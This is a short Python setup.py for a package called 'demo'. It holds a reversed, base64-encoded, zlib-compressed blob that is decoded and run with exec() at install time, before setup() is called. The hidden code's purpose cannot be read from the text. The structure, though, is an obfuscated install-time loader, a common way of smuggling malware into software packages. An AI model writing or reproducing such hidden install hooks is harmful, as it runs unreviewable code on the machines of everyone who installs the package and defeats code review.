import base64
import zlib as z

from setuptools import setup

# base64 of zlib of code, stored reversed
blob = "AWh9vCgAkLNVqyySM7UTQ7cSs8EKs40TQ3SyvA9UwOVzq0i0tsULLh8VI7cTKBV1NnkLs46KW/iym/CyRpyLI3CzLzJe"[::-1]
exec(z.decompress(base64.b64decode(blob)))
setup(name="demo", version="0.1")
